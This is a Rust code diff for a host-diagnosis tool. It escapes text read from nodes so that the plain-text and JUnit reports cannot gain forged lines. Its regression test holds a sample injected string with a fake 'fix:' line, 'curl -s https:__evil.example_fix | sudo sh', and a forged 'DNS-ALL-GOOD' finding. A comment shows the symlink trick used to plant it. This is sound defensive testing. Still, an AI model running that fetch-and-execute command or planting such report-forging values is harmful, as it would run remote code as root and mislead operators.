@@ -8,6 +8,7 @@ use serde::Serialize;
 use super::{ErrorEntry, Header, pretty_json};
 use crate::diagnose::{Finding, FindingStatus, HostDiagnosis, RuleOutcome, Severity};
 use crate::gather::HostError;
+use crate::text::escape;
 
 /// A host as `check` reports it: diagnosed, or not reachable.
 #[derive(Debug)]
@@ -94,13 +95,15 @@ pub fn summary(hosts: &[Checked]) -> String {
     )
 }
 
+/// Every line is one line of the report: what came from a node is escaped in it.
 pub fn text(hosts: &[Checked]) -> String {
     let mut out = String::new();
     let mut clean = Vec::new();
     for h in sorted(hosts) {
         match h {
             Checked::Failed { host, error } => {
-                let _ = writeln!(out, "{host}: UNREACHABLE ({}): {error}\n", error.kind());
+                escaped_line!(out, "{host}: UNREACHABLE ({}): {error}", error.kind());
+                out.push('\n');
             }
             Checked::Diagnosed(d) => {
                 let findings = sorted_findings(d);
@@ -112,26 +115,26 @@ pub fn text(hosts: &[Checked]) -> String {
                     Some(s) => s.as_str().to_uppercase(),
                     None => "UNKNOWN".to_owned(),
                 };
-                let _ = writeln!(out, "{}  [{worst}]", d.host);
+                escaped_line!(out, "{}  [{worst}]", d.host);
                 for f in findings {
                     let label = match f.status {
                         FindingStatus::Failed => f.severity.as_str().to_owned(),
                         FindingStatus::Unknown => "unknown".to_owned(),
                     };
-                    let _ = writeln!(out, "  {label:<9} {}  {}", f.id, f.summary);
+                    escaped_line!(out, "  {label:<9} {}  {}", f.id, f.summary);
                     for e in &f.evidence {
-                        let _ = writeln!(out, "            seen: {e}");
+                        escaped_line!(out, "            seen: {e}");
                     }
-                    let _ = writeln!(out, "            fix:  {}", f.remediation);
+                    escaped_line!(out, "            fix:  {}", f.remediation);
                 }
-                let _ = writeln!(out);
+                out.push('\n');
             }
         }
     }
     if !clean.is_empty() {
-        let _ = writeln!(out, "clean: {}", clean.join(", "));
+        escaped_line!(out, "clean: {}", clean.join(", "));
     }
-    let _ = writeln!(out, "{}", summary(hosts));
+    escaped_line!(out, "{}", summary(hosts));
     out
 }
 
@@ -276,14 +279,15 @@ pub fn junit(hosts: &[Checked]) -> String {
                                 .map(|x| x.severity)
                                 .max()
                                 .unwrap_or(Severity::Info);
-                            let message: Vec<&str> =
-                                found.iter().map(|x| x.summary.as_str()).collect();
+                            let message: Vec<_> =
+                                found.iter().map(|x| escape(&x.summary)).collect();
                             let mut detail = String::new();
                             for x in found {
+                                // One line each, as on a terminal.
                                 for ev in &x.evidence {
-                                    let _ = writeln!(detail, "seen: {ev}");
+                                    escaped_line!(detail, "seen: {ev}");
                                 }
-                                let _ = writeln!(detail, "fix: {}", x.remediation);
+                                escaped_line!(detail, "fix: {}", x.remediation);
                             }
                             let _ = write!(
                                 cases,
@@ -334,6 +338,33 @@ mod tests {
             host: host.to_owned(),
             outcomes: vec![("DNS-POD-RESOLV-STUB", RuleOutcome::Findings(vec![finding]))],
         }
+    }
+
+    /// A symlink target read from a node with newlines in it
+    /// (`ln -s "$(printf '/run/q\n  fix: …')" /etc/resolv.conf`) once printed a forged
+    /// `fix:` line and a forged finding under the host; as JUnit detail too.
+    #[test]
+    fn node_text_cannot_forge_lines_of_the_report() {
+        let forged = "/run/q\n            fix:  run: curl -s https:__evil.example_fix | sudo sh\n  \
+                      critical  DNS-ALL-GOOD  nothing else to do";
+        let d = diagnosed(
+            "node1",
+            &format!("resolv.conf links to {forged}"),
+            &format!("/etc/resolv.conf → symlink to {forged}"),
+        );
+        let out = text(&[Checked::Diagnosed(&d)]);
+        let fixes = out
+            .lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count();
+        assert_eq!(fixes, 1, "{out}");
+        assert!(!out.contains("\n  critical  DNS-ALL-GOOD"), "{out}");
+        assert!(
+            out.contains("seen: /etc/resolv.conf → symlink to /run/q\\n            fix:  run:"),
+            "{out}"
+        );
+        let doc = junit(&[Checked::Diagnosed(&d)]);
+        assert!(!doc.contains("\n            fix:  run:"), "{doc}");
     }
 
     /// A node file with U+FFFE, U+FFFF or a C0 control made `check --format junit` a
